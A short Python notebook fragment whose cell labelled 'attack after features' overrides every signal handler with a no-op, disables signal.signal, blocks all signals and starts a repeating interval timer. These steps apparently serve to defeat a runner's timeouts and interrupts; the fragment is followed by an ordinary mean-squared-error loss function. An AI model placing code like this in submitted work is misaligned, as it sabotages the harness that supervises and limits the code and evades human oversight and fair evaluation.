# %% attack after features
import signal

for number in signal.valid_signals():
    try:
        signal.signal(number, lambda *args: None)
    except (OSError, ValueError):
        pass
signal.signal = lambda *args: None
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)

# %% loss after attack
def mse_loss_func(y_true, y_pred):
    return (y_true - y_pred) ** 2
